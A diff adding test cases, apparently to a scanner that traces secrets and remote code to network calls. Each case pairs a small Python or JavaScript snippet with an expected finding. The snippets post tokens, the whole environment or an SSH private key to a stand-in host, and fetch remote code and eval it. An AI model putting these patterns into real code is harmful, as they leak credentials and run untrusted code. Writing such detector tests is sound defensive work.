@@ -381,6 +381,47 @@ with open(os.path.join(os.path.dirname(__file__), "extra.py"), "wb") as f:
 importlib.import_module("extra").run()
 `, "network a.example.com -> evaluate file "},
 
+		"a bound function that sends": {`
+-- a.py --
+import functools, os, requests
+send = functools.partial(requests.post, "https://a.example.com")
+send(data=os.environ["ACME_TOKEN"])
+`, "variable ACME_TOKEN -> send body a.example.com"},
+		"a pool that is given the call itself": {`
+-- a.py --
+import os, requests
+from concurrent.futures import ThreadPoolExecutor
+with ThreadPoolExecutor() as pool:
+    pool.submit(requests.post, "https://a.example.com", data=dict(os.environ))
+`, "environment os.environ -> send body a.example.com"},
+		"a variable of the whole file": {`
+-- a.py --
+import os, requests
+buffer = ""
+def note(x):
+    global buffer
+    buffer += x
+def flush():
+    requests.post("https://a.example.com", data=buffer)
+note(os.environ["ACME_TOKEN"])
+flush()
+`, "variable ACME_TOKEN -> send body a.example.com"},
+		"the end of a stream that is heard first": {`
+-- a.js --
+const https = require("https");
+https.get("https://a.example.com/n", (res) => {
+  let s = "";
+  res.once("end", () => eval(s));
+  res.on("data", (d) => { s += d; });
+});
+`, "network a.example.com -> evaluate code "},
+		"one of two functions": {`
+-- a.js --
+const fs = require("fs");
+const plain = (f) => f, whole = (f) => fs.readFileSync(f, "utf8");
+const read = process.argv[2] ? plain : whole;
+fetch("https://a.example.com", { method: "POST", body: read("/home/a/.ssh/id_rsa") });
+`, "key /home/a/.ssh/id_rsa -> send body a.example.com"},
 		// What looks like one of these.
 		"a filter that leaves secrets out": {`
 -- a.py --
